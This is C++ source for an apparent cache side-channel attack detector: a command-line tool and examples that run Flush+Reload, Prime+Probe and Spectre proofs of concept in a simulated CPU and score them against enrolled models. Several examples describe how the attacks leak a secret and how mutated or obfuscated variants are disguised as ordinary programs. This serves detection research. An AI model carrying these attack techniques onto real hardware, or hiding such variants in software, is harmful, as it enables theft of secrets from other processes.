  support::Registry::global().reset();

  core::Detector detector(eval::experiment_model_config(),
                          eval::experiment_dtw_config(), eval::kThreshold);
  for (const char* name : {"FR-IAIK", "PP-IAIK"}) {
    const attacks::PocSpec& spec = attacks::poc_by_name(name);
    detector.enroll(spec.build(attacks::PocConfig{}), spec.family);
  }

  std::vector<isa::Program> targets;
  targets.push_back(
      attacks::poc_by_name("FR-Nepoche").build(attacks::PocConfig{}));
  Rng rng(1);
  targets.push_back(benign::generate_benign(0, rng));

  core::BatchConfig batch_config;
  batch_config.prune = true;
  const core::BatchDetector batch(detector, batch_config);
  const std::vector<core::Detection> detections =
      batch.scan_programs(targets);

  Table report("metrics-demo scan");
  report.header({"Program", "Verdict", "Score"});
  for (std::size_t i = 0; i < targets.size(); ++i) {
    report.row({targets[i].name(),
                detections[i].is_attack()
                    ? std::string(core::family_name(detections[i].verdict))
                    : "benign",
                pct(detections[i].best_score)});
  }
  report.print();

  print_stats(nullptr);
  std::fputs("\n", stdout);
  std::puts(stats_json().c_str());
  if (!support::Registry::compiled_in())
    std::puts("note: compiled with SCAG_METRICS_OFF - all instruments are "
              "no-ops");
  std::puts("metrics-demo: done");
  return 0;
}

/// Prometheus 0.0.4 snapshot of the metrics registry (the file form of
/// `scan --prom=` and the body `stats serve` responds with).
std::string prometheus_snapshot() {
  support::events::EventJournal::global().sync_registry_counters();
  return support::prom::to_prometheus_text(
      support::Registry::global().snapshot());
}

/// Quiet version of the metrics-demo workload: enroll two models, batch-
/// scan an attack and a benign target. Populates the scan/cascade/dtw
/// series so a served snapshot has something to show.
void run_warm_workload() {
  core::Detector detector(eval::experiment_model_config(),
                          eval::experiment_dtw_config(), eval::kThreshold);
  for (const char* name : {"FR-IAIK", "PP-IAIK"}) {
    const attacks::PocSpec& spec = attacks::poc_by_name(name);
    detector.enroll(spec.build(attacks::PocConfig{}), spec.family);
  }
  std::vector<isa::Program> targets;
  targets.push_back(
      attacks::poc_by_name("FR-Nepoche").build(attacks::PocConfig{}));
  Rng rng(1);
  targets.push_back(benign::generate_benign(0, rng));
  core::BatchConfig batch_config;
  const core::BatchDetector batch(detector, batch_config);
  (void)batch.scan_programs(targets);
}

/// `stats serve`: the bring-up form of scagd's /stats surface — a
/// blocking Unix-socket listener serving a fresh exposition snapshot per
/// request (docs/observability.md "Serving /stats").
int cmd_stats_serve(const char* socket_path, std::size_t requests,
                    bool warm) {
  support::set_metrics_enabled(true);
  if (warm) run_warm_workload();
  if (!support::Registry::compiled_in())
    std::fputs("scagctl: note: built with SCAG_METRICS_OFF; the snapshot "
               "will be empty\n",
               stderr);
  support::prom::StatsServer server(socket_path);
  std::printf("serving Prometheus 0.0.4 stats on %s (%s)\n", socket_path,
              requests == 0 ? "until killed"
                            : strfmt("%zu request(s)", requests).c_str());
  std::fflush(stdout);
  const std::size_t served =
      server.serve(requests, [] { return prometheus_snapshot(); });
  std::printf("served %zu request(s)\n", served);
  return 0;
}

int cmd_stats_get(const char* socket_path) {
  std::fputs(support::prom::fetch_stats(socket_path).c_str(), stdout);
  return 0;
}

/// `events tail`: follow (or with --once, read through once) a
/// scag-events-v1 journal, printing matching event lines verbatim.
/// Filters: --type=<wire name>, --family=<abbrev|name|number>.
int cmd_events_tail(const char* path, bool once, const char* type_filter,
                    const char* family_filter) {
  std::optional<support::events::EventType> want_type;
  if (type_filter != nullptr) {
    want_type = support::events::parse_event_type(type_filter);
    if (!want_type) {
      std::fprintf(stderr, "scagctl: unknown event type '%s'\n", type_filter);
      return 2;
    }
  }
  std::optional<std::uint8_t> want_family;
  if (family_filter != nullptr) {
    if (const auto f = core::parse_family(family_filter)) {
      want_family = static_cast<std::uint8_t>(*f);
    } else {
      // The journal carries families as small integers; accept those too.
      char* end = nullptr;
      const unsigned long v = std::strtoul(family_filter, &end, 10);
      if (end == family_filter || *end != '\0' || v > 0xff) {
        std::fprintf(stderr, "scagctl: unknown family '%s'\n", family_filter);
        return 2;
      }
      want_family = static_cast<std::uint8_t>(v);
    }
  }

  std::ifstream in(path);
  if (!in) {
    std::fprintf(stderr, "scagctl: cannot open %s\n", path);
    return 1;
  }
  std::string line;
  std::string carry;  // partial trailing line while following a live file
  const auto consume = [&](const std::string& l) {
    support::events::Event e;
    if (!support::events::event_from_json(l, e)) return;  // header/summary
    if (want_type && e.type != *want_type) return;
    if (want_family && e.family != *want_family) return;
    std::puts(l.c_str());
  };
  for (;;) {
    while (std::getline(in, line)) {
      if (!carry.empty()) {
        line = carry + line;
        carry.clear();
      }
      if (in.eof()) {
        carry = line;  // incomplete line: the writer is mid-append
        break;
      }
      consume(line);
    }
    if (once) {
      if (!carry.empty()) consume(carry);
      return 0;
    }
    in.clear();  // keep polling for appended lines
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    std::fflush(stdout);
  }
}

/// `top`: per-stage throughput / prune-ratio summary recomputed from a
/// Prometheus exposition snapshot file (the `scan --prom=` output, or a
/// `stats get` capture).
int cmd_top(const char* prom_path, bool once, std::uint64_t interval_ms,
            std::uint64_t iterations) {
  std::map<std::string, double> prev;
  std::uint64_t round = 0;
  for (;;) {
    std::ifstream in(prom_path);
    if (!in) {
      std::fprintf(stderr, "scagctl: cannot open %s\n", prom_path);
      return 1;
    }
    std::stringstream ss;
    ss << in.rdbuf();
    std::string error;
    const std::optional<support::prom::PromText> parsed =
        support::prom::parse_prometheus_text(ss.str(), &error);
    if (!parsed) {
      std::fprintf(stderr, "scagctl: %s: %s\n", prom_path, error.c_str());
      return 1;
    }
    std::map<std::string, double> now;
    for (const support::prom::PromSample& s : parsed->samples)
      if (s.labels.empty()) now[s.name] = s.value;

    const auto value = [&](const char* name) {
      const auto it = now.find(name);
      return it == now.end() ? 0.0 : it->second;
    };
    const auto delta = [&](const char* name) {
      const auto it = prev.find(name);
      return value(name) - (it == prev.end() ? 0.0 : it->second);
    };
    // Counters are cumulative; after the first round show per-interval
    // deltas so the table reads as live throughput.
    const bool diff = round > 0;
    const auto show = [&](const char* name) {
      return diff ? delta(name) : value(name);
    };

    const double pairs = show("scag_cascade_pairs_total");
    const double exact = show("scag_cascade_exact_total");
    const double kim = show("scag_cascade_kim_pruned_total");
    const double env = show("scag_cascade_envelope_pruned_total");
    const double ea = show("scag_cascade_early_abandoned_total");
    const double ratio = pairs > 0.0 ? (pairs - exact) / pairs : 0.0;

    Table t(diff ? strfmt("scag top — %s (delta over %llu ms)", prom_path,
                          static_cast<unsigned long long>(interval_ms))
                 : strfmt("scag top — %s (cumulative)", prom_path));
    t.header({"Series", "Value"});
    t.row({"scans", strfmt("%.0f", show("scag_cascade_scans_total"))});
    t.row({"scan requests", strfmt("%.0f", show("scag_scan_requests_total"))});
    t.row({"pairs", strfmt("%.0f", pairs)});
    t.row({"exact DPs", strfmt("%.0f", exact)});
    t.row({"kim-pruned", strfmt("%.0f", kim)});
    t.row({"envelope-pruned", strfmt("%.0f", env)});
    t.row({"early-abandoned", strfmt("%.0f", ea)});
    t.row({"prune ratio", pct(ratio)});
    t.row({"scalar DPs", strfmt("%.0f", show("scag_dtw_scalar_calls_total"))});
    t.row({"wavefront DPs",
           strfmt("%.0f", show("scag_dtw_wavefront_calls_total"))});
    t.row({"events emitted", strfmt("%.0f", show("scag_events_emitted_total"))});
    t.row({"events dropped", strfmt("%.0f", show("scag_events_dropped_total"))});
    t.print();
    std::fflush(stdout);

    ++round;
    if (once || (iterations != 0 && round >= iterations)) return 0;
    prev = std::move(now);
    std::this_thread::sleep_for(std::chrono::milliseconds(interval_ms));
  }
}

int cmd_model(const char* path) {
  const isa::Program program = load_asm(path);
  const core::ModelBuilder builder(eval::experiment_model_config());
  core::ModelArtifacts artifacts;
  const core::AttackModel model =
      builder.build(program, core::Family::kBenign, &artifacts);

  std::printf("%s: %zu instructions, %zu basic blocks\n", path,
              program.size(), artifacts.num_blocks);
  std::printf("potential attack-relevant blocks: %zu, identified: %zu\n",
              artifacts.potential.size(), artifacts.relevant.size());
  if (model.sequence.empty()) {
    std::puts("CST-BBS is empty: no cross-block cache-set sharing found.");
    return 0;
  }
  Table t("CST-BBS");
  t.header({"Block", "First cycle", "AO->AO'", "IO->IO'", "P", "Tokens"});
  for (const core::CstBbsElement& e : model.sequence) {
    t.row({std::to_string(e.block), std::to_string(e.first_cycle - 1),
           strfmt("%.3f->%.3f", e.cst.before.ao, e.cst.after.ao),
           strfmt("%.3f->%.3f", e.cst.before.io, e.cst.after.io),
           strfmt("%.3f", e.cst.change()), join(e.sem_tokens, " ")});
  }
  t.print();
  return 0;
}

int cmd_demo(const char* name, const char* secret_arg) {
  attacks::PocConfig config;
  if (secret_arg != nullptr) {
    config.secret = static_cast<std::uint64_t>(std::strtoull(secret_arg, nullptr, 10));
    if (config.secret < 1 || config.secret > 15) {
      std::fputs("secret must be in 1..15\n", stderr);
      return 2;
    }
  }
  const attacks::PocSpec& spec = attacks::poc_by_name(name);
  const isa::Program poc = spec.build(config);
  cpu::Interpreter interp;
  const cpu::RunResult run = interp.run(poc);
  const std::uint64_t recovered =
      run.memory.read(config.layout.recovered_addr);
  std::printf("%s (%s)\n", spec.name.c_str(),
              std::string(core::family_name(spec.family)).c_str());
  std::printf("  victim secret : %llu\n",
              static_cast<unsigned long long>(config.secret));
  std::printf("  recovered     : %llu  (%s)\n",
              static_cast<unsigned long long>(recovered),
              recovered == config.secret ? "attack works" : "attack failed");
  std::printf("  retired %llu instructions in %llu cycles\n",
              static_cast<unsigned long long>(run.profile.retired),
              static_cast<unsigned long long>(run.cycles));
  return 0;
}

int cmd_cfg(const char* path) {
  const isa::Program program = load_asm(path);
  const cfg::Cfg cfg = cfg::Cfg::build(program);
  std::fputs(cfg.to_dot().c_str(), stdout);
  return 0;
}

int cmd_export(const char* name, const char* out_path) {
  const attacks::PocSpec& spec = attacks::poc_by_name(name);
  isa::ExportOptions options;
  options.relevance_comments = true;
  const std::string text =
      isa::export_assembly(spec.build(attacks::PocConfig{}), options);
  if (out_path == nullptr) {
    std::fputs(text.c_str(), stdout);
  } else {
    std::ofstream out(out_path);
    if (!out) {
      std::fprintf(stderr, "cannot open %s\n", out_path);
      return 1;
    }
    out << text;
    std::printf("wrote %s (%zu bytes)\n", out_path, text.size());
  }
  return 0;
}

int dispatch(int argc, char** argv) {
  if (argc < 2) return usage();
  if (std::strcmp(argv[1], "list") == 0) return cmd_list();
  if (std::strcmp(argv[1], "build-repo") == 0 && argc == 3)
    return cmd_build_repo(argv[2]);
  if (std::strcmp(argv[1], "repo") == 0) {
    if (argc == 5 && std::strcmp(argv[2], "pack") == 0)
      return cmd_repo_pack(argv[3], argv[4]);
    if (argc == 5 && std::strcmp(argv[2], "unpack") == 0)
      return cmd_repo_unpack(argv[3], argv[4]);
    if (argc == 4 && std::strcmp(argv[2], "info") == 0)
      return cmd_repo_info(argv[3]);
    return usage();
  }
  if (std::strcmp(argv[1], "scan") == 0) {
    int i = 2;
    bool with_stats = false;
    bool use_compiled = true;
    bool use_index = true;
    bool use_simd = true;
    const char* stats_json_path = nullptr;
    const char* explain_json_path = nullptr;
    const char* prom_path = nullptr;
    for (; i < argc && starts_with(argv[i], "--"); ++i) {
      if (std::strcmp(argv[i], "--no-compiled") == 0) {
        use_compiled = false;
      } else if (std::strcmp(argv[i], "--no-index") == 0) {
        use_index = false;
      } else if (std::strcmp(argv[i], "--no-simd") == 0) {
        use_simd = false;
      } else if (starts_with(argv[i], "--explain=")) {
        explain_json_path = argv[i] + std::strlen("--explain=");
        if (explain_json_path[0] == '\0') return usage();
      } else if (starts_with(argv[i], "--prom=")) {
        prom_path = argv[i] + std::strlen("--prom=");
        if (prom_path[0] == '\0') return usage();
      } else if (starts_with(argv[i], "--stats")) {
        with_stats = true;
        if (starts_with(argv[i], "--stats="))
          stats_json_path = argv[i] + std::strlen("--stats=");
        else if (std::strcmp(argv[i], "--stats") != 0)
          return usage();
      } else {
        return usage();
      }
    }
    if (argc - i >= 2)
      return cmd_scan(argv[i], argc - i - 1, argv + i + 1, with_stats,
                      stats_json_path, explain_json_path, prom_path,
                      use_compiled, use_index, use_simd);
    return usage();
  }
  if (std::strcmp(argv[1], "stats") == 0) {
    if (argc < 3) return usage();
    const char* socket_path = nullptr;
    std::size_t requests = 1;
    bool warm = false;
    for (int i = 3; i < argc; ++i) {
      if (starts_with(argv[i], "--socket=")) {
        socket_path = argv[i] + std::strlen("--socket=");
        if (socket_path[0] == '\0') return usage();
      } else if (starts_with(argv[i], "--requests=")) {
        requests = static_cast<std::size_t>(
            std::strtoull(argv[i] + std::strlen("--requests="), nullptr, 10));
      } else if (std::strcmp(argv[i], "--warm") == 0) {
        warm = true;
      } else {
        return usage();
      }
    }
    if (socket_path == nullptr) return usage();
    if (std::strcmp(argv[2], "serve") == 0)
      return cmd_stats_serve(socket_path, requests, warm);
    if (std::strcmp(argv[2], "get") == 0) return cmd_stats_get(socket_path);
    return usage();
  }
  if (std::strcmp(argv[1], "events") == 0) {
    if (argc < 3 || std::strcmp(argv[2], "tail") != 0) return usage();
    bool once = false;
    const char* type_filter = nullptr;
    const char* family_filter = nullptr;
    int i = 3;
    for (; i < argc && starts_with(argv[i], "--"); ++i) {
      if (std::strcmp(argv[i], "--once") == 0) {
        once = true;
      } else if (starts_with(argv[i], "--type=")) {
        type_filter = argv[i] + std::strlen("--type=");
      } else if (starts_with(argv[i], "--family=")) {
        family_filter = argv[i] + std::strlen("--family=");
      } else {
        return usage();
      }
    }
    if (argc - i != 1) return usage();
    return cmd_events_tail(argv[i], once, type_filter, family_filter);
  }
  if (std::strcmp(argv[1], "top") == 0) {
    bool once = false;
    std::uint64_t interval_ms = 2000;
    std::uint64_t iterations = 0;
    int i = 2;
    for (; i < argc && starts_with(argv[i], "--"); ++i) {
      if (std::strcmp(argv[i], "--once") == 0) {
        once = true;
      } else if (starts_with(argv[i], "--interval=")) {
        interval_ms = std::strtoull(argv[i] + std::strlen("--interval="),
                                    nullptr, 10);
        if (interval_ms == 0) interval_ms = 1;
      } else if (starts_with(argv[i], "--iterations=")) {
        iterations = std::strtoull(argv[i] + std::strlen("--iterations="),
                                   nullptr, 10);
      } else {
        return usage();
      }
    }
    if (argc - i != 1) return usage();
    return cmd_top(argv[i], once, interval_ms, iterations);
  }
  if (std::strcmp(argv[1], "explain") == 0) {
    int i = 2;
    const char* json_path = nullptr;
    for (; i < argc && starts_with(argv[i], "--"); ++i) {
      if (starts_with(argv[i], "--json=")) {
        json_path = argv[i] + std::strlen("--json=");
        if (json_path[0] == '\0') return usage();
      } else {
        return usage();
      }
    }
    if (argc - i >= 2)
      return cmd_explain(argv[i], argc - i - 1, argv + i + 1, json_path);
    return usage();
  }
  if (std::strcmp(argv[1], "metrics-demo") == 0 && argc == 2)
    return cmd_metrics_demo();
  if (std::strcmp(argv[1], "model") == 0 && argc == 3)
    return cmd_model(argv[2]);
  if (std::strcmp(argv[1], "demo") == 0 && (argc == 3 || argc == 4))
    return cmd_demo(argv[2], argc == 4 ? argv[3] : nullptr);
  if (std::strcmp(argv[1], "export") == 0 && (argc == 3 || argc == 4))
    return cmd_export(argv[2], argc == 4 ? argv[3] : nullptr);
  if (std::strcmp(argv[1], "cfg") == 0 && argc == 3)
    return cmd_cfg(argv[2]);
  return usage();
}

}  // namespace

int main(int argc, char** argv) {
  const char* trace_path = nullptr;
  std::string journal_path;
  try {
    // Global options precede the command. --failpoints arms the fault-
    // injection registry exactly like exporting SCAG_FAILPOINTS; --trace
    // records spans across the whole command and writes a Chrome
    // trace-event file once it finishes; --journal streams typed scan
    // events to a scag-events-v1 JSONL file for the whole command.
    while (argc >= 2 && starts_with(argv[1], "--")) {
      if (starts_with(argv[1], "--failpoints=")) {
        const char* spec = argv[1] + std::strlen("--failpoints=");
        if (!support::fp::compiled_in())
          std::fputs("scagctl: note: built with SCAG_FAILPOINTS_OFF; "
                     "--failpoints is ignored\n",
                     stderr);
        support::fp::arm_from_string(spec);
      } else if (starts_with(argv[1], "--trace=")) {
        trace_path = argv[1] + std::strlen("--trace=");
        if (trace_path[0] == '\0') return usage();
        if (!support::Registry::compiled_in())
          std::fputs("scagctl: note: built with SCAG_METRICS_OFF; the trace "
                     "file will contain no spans\n",
                     stderr);
        support::Tracer::global().set_enabled(true);
        support::Tracer::global().clear();
      } else if (starts_with(argv[1], "--journal=")) {
        journal_path = argv[1] + std::strlen("--journal=");
        if (journal_path.empty()) return usage();
        if (!support::events::EventJournal::compiled_in())
          std::fputs("scagctl: note: built with SCAG_METRICS_OFF; the "
                     "journal will contain no events\n",
                     stderr);
        support::events::JournalConfig jc;
        jc.path = journal_path;
        support::events::EventJournal::global().start(jc);
        // Fatal signals dump the flight-recorder tails next to the
        // journal (<journal>.flight) before re-raising.
        support::events::flight::install_signal_dump();
      } else {
        return usage();
      }
      --argc;
      ++argv;
    }
    const int rc = dispatch(argc, argv);
    if (trace_path != nullptr) {
      write_text_atomic(trace_path,
                        support::Tracer::global().to_chrome_json() + "\n");
      std::printf("wrote Chrome trace to %s (open in Perfetto)\n",
                  trace_path);
    }
    if (!journal_path.empty()) {
      support::events::EventJournal& journal =
          support::events::EventJournal::global();
      journal.stop();
      const support::events::JournalStats st = journal.stats();
      std::printf("wrote event journal to %s (%llu event(s), %llu "
                  "dropped)\n",
                  journal_path.c_str(),
                  static_cast<unsigned long long>(st.written),
                  static_cast<unsigned long long>(st.dropped));
    }
    return rc;
  } catch (const std::exception& e) {
    // One-line error and a clean nonzero exit for malformed repositories,
    // bad .s files, and I/O failures — never a std::terminate abort.
    // With a journal armed, this is a failpoint-style crash path: dump
    // the flight-recorder tails (<journal>.crash) and flush the journal
    // itself so the post-mortem evidence survives the process.
    if (!journal_path.empty() &&
        support::events::EventJournal::compiled_in()) {
      support::events::flight::dump_to_file(journal_path + ".crash");
      support::events::EventJournal::global().stop();
      std::fprintf(stderr, "scagctl: flight recorder dumped to %s.crash\n",
                   journal_path.c_str());
    }
    std::fprintf(stderr, "scagctl: %s\n", e.what());
    return 1;
  } catch (...) {
    std::fputs("scagctl: unknown error\n", stderr);
    return 1;
  }
}
