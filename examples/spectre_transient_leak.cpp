// A guided tour of the Spectre V1 machinery in the simulated CPU:
//   - how training biases the branch predictor,
//   - how the transient window leaks a secret into the cache,
//   - how the leak disappears when speculation is off,
//   - and how SCAGuard classifies the binary.
//
//   $ ./build/examples/spectre_transient_leak
#include <cstdio>

#include "attacks/registry.h"
#include "core/detector.h"
#include "cpu/interpreter.h"
#include "eval/experiments.h"
#include "support/strings.h"

using namespace scag;

namespace {

void run_once(const isa::Program& poc, const attacks::PocConfig& config,
              bool speculation) {
  cpu::ExecOptions opts;
  opts.speculation = speculation;
  cpu::Interpreter interp(opts);
  const cpu::RunResult run = interp.run(poc);

  const std::uint64_t recovered =
      run.memory.read(config.layout.recovered_addr);
  std::printf("  speculation %-3s : recovered %llu (%s), %llu branch misses, "
              "%llu cycles\n",
              speculation ? "ON" : "OFF",
              static_cast<unsigned long long>(recovered),
              recovered == config.secret ? "LEAKED" : "safe",
              static_cast<unsigned long long>(
                  run.profile.totals[trace::HpcEvent::kBranchMiss]),
              static_cast<unsigned long long>(run.cycles));

  // Histogram of reload hits per probe slot.
  std::fputs("  probe-slot hits :", stdout);
  for (int s = 0; s < attacks::Layout::kNumSlots; ++s) {
    const std::uint64_t hits =
        run.memory.read(config.layout.histogram + static_cast<std::uint64_t>(s) * 8);
    std::printf(" %llu", static_cast<unsigned long long>(hits));
  }
  std::puts("");
}

}  // namespace

int main() {
  attacks::PocConfig config;
  config.secret = 11;
  config.rounds = 6;

  std::printf("Victim secret nibble: %llu\n",
              static_cast<unsigned long long>(config.secret));
  std::puts(
      "\nThe gadget bounds-checks an index; training teaches the predictor\n"
      "'in bounds', then one out-of-bounds call executes the two dependent\n"
      "loads transiently, caching probe slot <secret>:");

  for (const char* name :
       {"Spectre-FR-Ideal", "Spectre-FR-Good", "Spectre-PP-Trippel"}) {
    std::printf("\n%s:\n", name);
    const isa::Program poc = attacks::poc_by_name(name).build(config);
    run_once(poc, config, /*speculation=*/true);
    run_once(poc, config, /*speculation=*/false);
  }

  // Detection: the defender has never seen a Spectre PoC, only classic
  // FR/PP (the paper's E2 setting).
  std::puts("\nDetection with only classic FR/PP models enrolled (task E2):");
  const core::Detector detector = eval::make_scaguard(
      {core::Family::kFlushReload, core::Family::kPrimeProbe});
  for (const char* name :
       {"Spectre-FR-Ideal", "Spectre-FR-Good", "Spectre-PP-Trippel"}) {
    const core::Detection det =
        detector.scan(attacks::poc_by_name(name).build(config));
    std::printf("  %-20s -> %-7s (closest: %s at %s)\n", name,
                det.is_attack() ? "ATTACK" : "missed",
                det.scores.empty() ? "-" : det.scores.front().model_name.c_str(),
                pct(det.best_score).c_str());
  }
  return 0;
}
