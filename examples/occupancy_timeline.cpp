// Visualizes the paper's Definition 3 live: the LLC occupancy state
// (AO = attacker-owned fraction, IO = everyone else) sampled while a
// Prime+Probe attack runs, with the victim's accesses attributed via
// ExecOptions::victim_ranges. The prime phases show up as AO surges.
//
//   $ ./build/examples/occupancy_timeline
#include <cstdio>

#include "attacks/registry.h"
#include "cpu/interpreter.h"
#include "isa/program.h"

using namespace scag;

int main() {
  attacks::PocConfig config;
  config.secret = 5;
  config.rounds = 3;
  const isa::Program poc = attacks::pp_iaik(config);

  cpu::ExecOptions opts;
  opts.sample_interval = 2000;
  // Attribute the victim subroutine's accesses to the victim owner.
  const std::uint64_t victim_entry = poc.label("victim");
  opts.victim_ranges.push_back(
      {victim_entry, poc.code_base() + poc.size() * isa::kInstrSize});

  cpu::Interpreter interp(opts);
  const cpu::RunResult run = interp.run(poc);

  std::printf("PP-IAIK, %d rounds, %llu cycles, %zu occupancy samples\n\n",
              config.rounds, static_cast<unsigned long long>(run.cycles),
              run.profile.occupancy_samples.size());
  std::puts("LLC occupancy over time (each row = one sample; # = AO bar):");
  std::puts("  cycle      AO      IO");
  const auto& samples = run.profile.occupancy_samples;
  // Print at most ~40 evenly spaced rows.
  const std::size_t step = samples.size() > 40 ? samples.size() / 40 : 1;
  for (std::size_t i = 0; i < samples.size(); i += step) {
    const auto [ao, io] = samples[i];
    std::string bar(static_cast<std::size_t>(ao * 200), '#');
    std::printf("  %-9llu %.4f  %.4f  |%s\n",
                static_cast<unsigned long long>((i + 1) * opts.sample_interval),
                ao, io, bar.c_str());
  }

  // The attack's cache-state changes are exactly what the CST captures.
  double max_ao = 0.0;
  for (const auto& [ao, io] : samples) max_ao = std::max(max_ao, ao);
  std::printf(
      "\npeak attacker occupancy: %.2f%% of the LLC (the prime phase's "
      "footprint:\n16 sets x 16 ways = 256 of 16384 lines = 1.56%%, plus "
      "probe traffic).\n",
      max_ao * 100);
  return 0;
}
