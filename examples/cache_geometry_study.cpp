// Ablation-style example: how robust are the attacks and the detector to
// the cache geometry of the monitored platform? Sweeps LLC configurations,
// reruns a PoC on each, and reports whether (a) the attack still recovers
// the secret and (b) SCAGuard still flags it.
//
// This exercises the library's configurability: every stage (interpreter,
// relevant-BB set mapping, CST cache) takes an explicit geometry.
#include <cstdio>

#include "attacks/registry.h"
#include "core/detector.h"
#include "cpu/interpreter.h"
#include "eval/experiments.h"
#include "support/strings.h"
#include "support/table.h"

using namespace scag;

int main() {
  struct Geometry {
    const char* name;
    cache::CacheConfig llc;
  };
  // Note: the PoCs' eviction sets are sized for the default 16-way LLC, so
  // Prime+Probe-style attacks are expected to degrade on other geometries —
  // that degradation is real attack behavior (eviction sets must be rebuilt
  // per target machine), and the sweep shows which attacks care.
  const Geometry geometries[] = {
      {"default 1 MiB (1024x16)", {1024, 16, 64}},
      {"smaller  512 KiB (512x16)", {512, 16, 64}},
      {"wider    1 MiB (512x32)", {512, 32, 64}},
      {"tiny     256 KiB (256x16)", {256, 16, 64}},
  };

  attacks::PocConfig poc_config;
  poc_config.secret = 7;

  Table t("Attack success and detection across LLC geometries");
  t.header({"LLC geometry", "FR works", "FR flagged", "ER works",
            "ER flagged"});

  for (const Geometry& g : geometries) {
    core::ModelConfig model_config = eval::experiment_model_config();
    model_config.exec.cache_config.llc = g.llc;
    model_config.relevant.set_mapping = g.llc;

    core::Detector detector(model_config, eval::experiment_dtw_config(),
                            eval::kThreshold);
    detector.enroll(attacks::fr_iaik(poc_config),
                    core::Family::kFlushReload);

    std::vector<std::string> row = {g.name};
    for (const char* name : {"FR-Nepoche", "ER-IAIK"}) {
      const isa::Program poc = attacks::poc_by_name(name).build(poc_config);
      cpu::ExecOptions opts;
      opts.cache_config.llc = g.llc;
      cpu::Interpreter interp(opts);
      const cpu::RunResult run = interp.run(poc);
      const bool works =
          run.memory.read(poc_config.layout.recovered_addr) ==
          poc_config.secret;
      const core::Detection det = detector.scan(poc);
      row.push_back(works ? "yes" : "NO");
      row.push_back(det.is_attack() ? pct(det.best_score) : "missed");
    }
    t.row(row);
  }
  t.print();

  std::puts(
      "\nFlush+Reload is geometry-independent (it names exact addresses);\n"
      "eviction-based attacks depend on set/way layout, which is why the\n"
      "paper's approach models behavior rather than one fixed geometry.");

  // ---- Replacement-policy sweep: eviction attacks assume LRU-like
  // behavior; FIFO/PLRU keep working (a full-set walk still displaces
  // everything) but Random makes single-walk eviction probabilistic.
  Table tp("\nAttack success across LLC replacement policies");
  tp.header({"Policy", "FR works", "ER works", "PP works"});
  struct PolicyRow {
    const char* name;
    cache::ReplacementPolicy policy;
  };
  const PolicyRow policies[] = {
      {"LRU (default)", cache::ReplacementPolicy::kLru},
      {"FIFO", cache::ReplacementPolicy::kFifo},
      {"Tree-PLRU", cache::ReplacementPolicy::kPlru},
      {"Random", cache::ReplacementPolicy::kRandom},
  };
  for (const PolicyRow& p : policies) {
    std::vector<std::string> row = {p.name};
    for (const char* name : {"FR-Nepoche", "ER-IAIK", "PP-IAIK"}) {
      cpu::ExecOptions opts;
      opts.cache_config.llc.policy = p.policy;
      cpu::Interpreter interp(opts);
      const cpu::RunResult run =
          interp.run(attacks::poc_by_name(name).build(poc_config));
      row.push_back(run.memory.read(poc_config.layout.recovered_addr) ==
                            poc_config.secret
                        ? "yes"
                        : "NO");
    }
    tp.row(row);
  }
  tp.print();
  return 0;
}
