// The deployment scenario from the paper's discussion section: SCAGuard as
// a pre-installation guard on a server cluster. A repository of attack
// models is built once from the known PoCs; every "untrusted program" is
// then modeled and compared before being admitted.
//
// Usage:
//   detect_suspicious_binary              # scans a built-in demo queue
//   detect_suspicious_binary prog.s ...   # scans your own mini-x86 .s files
//
// The .s dialect is the library's assembler syntax (see isa/assembler.h),
// e.g.:
//     loop:
//       clflush [rax]
//       ...
//       jne loop
//       hlt
#include <cstdio>
#include <fstream>
#include <sstream>

#include "attacks/registry.h"
#include "benign/registry.h"
#include "core/detector.h"
#include "eval/experiments.h"
#include "isa/assembler.h"
#include "mutation/mutator.h"
#include "support/strings.h"
#include "support/table.h"

using namespace scag;

namespace {

void scan_and_report(const core::Detector& detector,
                     const std::string& name, const isa::Program& program,
                     Table& report) {
  const core::Detection det = detector.scan(program);
  std::string best = "-";
  if (!det.scores.empty())
    best = det.scores.front().model_name + " @ " + pct(det.best_score);
  report.row({name, det.is_attack() ? "ATTACK" : "admit",
              std::string(core::family_abbrev(det.verdict)), best});
}

}  // namespace

int main(int argc, char** argv) {
  std::puts("Building the attack-model repository (one PoC per family)...");
  const core::Detector detector = eval::make_scaguard(
      {core::Family::kFlushReload, core::Family::kPrimeProbe,
       core::Family::kSpectreFR, core::Family::kSpectrePP});
  for (const core::AttackModel& m : detector.repository())
    std::printf("  enrolled %-24s (%s, %zu-element CST-BBS)\n",
                m.name.c_str(),
                std::string(core::family_abbrev(m.family)).c_str(),
                m.sequence.size());

  Table report("\nScan report");
  report.header({"Program", "Verdict", "Family", "Best match"});

  if (argc > 1) {
    for (int i = 1; i < argc; ++i) {
      std::ifstream in(argv[i]);
      if (!in) {
        std::fprintf(stderr, "cannot open %s\n", argv[i]);
        return 1;
      }
      std::stringstream ss;
      ss << in.rdbuf();
      try {
        scan_and_report(detector, argv[i],
                        isa::assemble(ss.str(), argv[i]), report);
      } catch (const isa::AsmError& e) {
        std::fprintf(stderr, "%s: %s\n", argv[i], e.what());
        return 1;
      }
    }
    report.print();
    return 0;
  }

  // Demo queue: disguised attack variants mixed with legitimate software.
  std::puts("\nScanning the demo installation queue...");
  Rng rng(20260704);

  attacks::PocConfig config;
  config.secret = 1 + rng.below(15);

  {  // A mutated Evict+Reload nobody enrolled.
    Rng mut = rng.split();
    scan_and_report(detector, "update-helper (ER mutant)",
                    mutation::mutate(attacks::er_iaik(config), mut), report);
  }
  {  // An obfuscated Prime+Probe.
    Rng mut = rng.split();
    scan_and_report(detector, "telemetry-agent (PP obfusc.)",
                    mutation::obfuscate(attacks::pp_jzhang(config), mut),
                    report);
  }
  {  // A Spectre variant.
    Rng mut = rng.split();
    scan_and_report(detector, "codec-plugin (Spectre-FR)",
                    mutation::mutate(attacks::spectre_fr_good(config), mut),
                    report);
  }
  // Legitimate software, including the hard cases.
  const char* legit[] = {"aes-ttables", "hashtable-server", "timed-lookup",
                         "flush-writeback", "matmul"};
  for (const char* name : legit) {
    for (const auto& spec : benign::all_benign_templates()) {
      if (spec.name != name) continue;
      Rng gen = rng.split();
      scan_and_report(detector, name, spec.build(gen), report);
    }
  }
  report.print();
  std::puts("\n(ATTACK = similarity above the 45% threshold; admit = below.)");
  return 0;
}
