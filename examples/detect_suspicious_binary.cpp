// The deployment scenario from the paper's discussion section: SCAGuard as
// a pre-installation guard on a server cluster. A repository of attack
// models is built once from the known PoCs; every "untrusted program" is
// then modeled and compared before being admitted.
//
// Usage:
//   detect_suspicious_binary              # scans a built-in demo queue
//   detect_suspicious_binary prog.s ...   # scans your own mini-x86 .s files
//
